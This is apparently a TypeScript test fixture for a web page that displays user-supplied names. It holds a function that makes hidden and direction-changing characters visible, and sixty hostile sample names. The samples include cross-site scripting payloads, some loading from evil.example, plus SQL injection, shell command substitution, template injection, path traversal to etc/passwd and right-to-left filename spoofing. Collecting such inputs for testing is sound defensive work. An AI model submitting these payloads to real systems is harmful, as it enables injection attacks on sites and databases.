// Sixty texts that somebody might put where a name is expected.

/** How the page shows text that others wrote: what steers or hides becomes a mark, and 200 characters are enough. */
export function shown(text: string, max = 200): string {
  const marks: Record<string, string> = {
    '\u00ad': 'SHY', '\u061c': 'ALM', '\u180e': 'MVS', '\u200b': 'ZWSP', '\u200e': 'LRM', '\u200f': 'RLM', '\u2028': 'LS', '\u2029': 'PS',
    '\u202a': 'LRE', '\u202b': 'RLE', '\u202c': 'PDF', '\u202d': 'LRO', '\u202e': 'RLO', '\u2060': 'WJ', '\u2066': 'LRI', '\u2067': 'RLI',
    '\u2068': 'FSI', '\u2069': 'PDI', '\ufeff': 'BOM',
  };
  const all = Array.from(text);
  const head = all.slice(0, max).map((char) => {
    const code = char.codePointAt(0) ?? 0;
    if (code < 0x20) return String.fromCharCode(0x2400 + code);
    if (code === 0x7f) return '\u2421';
    return marks[char] ? `\u2039${marks[char]}\u203a` : char;
  });
  return head.join('') + (all.length > max ? '…' : '');
}

/** Sixty of them; each fits a name of 128 bytes, none begins or ends with a blank. */
export const HOSTILE: readonly string[] = [
  // Markup and scripts.
  '<script>window.__pwned=1</script>',
  '</title><script>window.__pwned=2</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=window.__pwned=3>',
  '<svg onload=window.__pwned=4>',
  '<svg><animate onbegin=window.__pwned=5 attributeName=x dur=1s>',
  '<body onload=window.__pwned=6>',
  '<iframe srcdoc="<script>parent.__pwned=7</script>">',
  '<details open ontoggle=window.__pwned=8>x</details>',
  '<input autofocus onfocus=window.__pwned=9>',
  '<video><source onerror=window.__pwned=10></video>',
  '<a href="javascript:window.__pwned=11">x</a>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<form action=//evil.example/><button>x</button></form>',
  '<template><img src=x onerror=window.__pwned=12></template>',
  '<math><mtext><img src=x onerror=window.__pwned=13>',
  '<!-- --><script>window.__pwned=14</script>',
  '<![CDATA[<script>window.__pwned=15</script>]]>',
  '&lt;b&gt;&amp;&#x41;&nbsp;',
  '<b>bold</b> &copy; <i>',
  // Out of an attribute.
  '" onmouseover="window.__pwned=16',
  "' onfocus='window.__pwned=17' autofocus='",
  '`onmouseover=window.__pwned=18`',
  '" style="position:fixed;inset:0;background:red',
  '\\"><img src=x onerror=window.__pwned=19>',
  // Addresses.
  'javascript:window.__pwned=20',
  'JaVaScRiPt:window.__pwned=21',
  'data:text;base64,PHNjcmlwdD4',
  '//evil.example',
  '..%2f..%2fetc%2fpasswd',
  'x?camera=1&type=motion#drawer',
  // Templates and code.
  '{{constructor.constructor("window.__pwned=22")()}}',
  '${window.__pwned=23}',
  '{window.__pwned=24}',
  '{@html "<img src=x onerror=window.__pwned=25>"}',
  '<%= 7*7 %>',
  '#{7*7}',
  '%s %d %n %x',
  '{name} {n} {x}',
  // Queries.
  "'; DROP TABLE cameras; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  '$(touch pwned); `touch pwned` | cat',
  // What cannot be seen, and what turns the text around.
  'left \u202egnp.exe',
  '\u2066isolated\u2069 \u200fRTL\u200e',
  'zero\u200bwidth\u2060joined\ufeff.',
  'soft\u00adhyphen \u2028 line',
  'שלום camera عربى',
  'Z͑ͫa̴l̸g̵o̶ ͓̞t̸e̵x̶t̷',
  // Long, wide, odd.
  'W'.repeat(128),
  'ﷺ'.repeat(40),
  '👩‍👩‍👧‍👦🇩🇪🏳️‍🌈 emoji',
  // Words that code may take for something else.
  'null',
  'undefined',
  'NaN',
  '__proto__',
  'constructor',
];
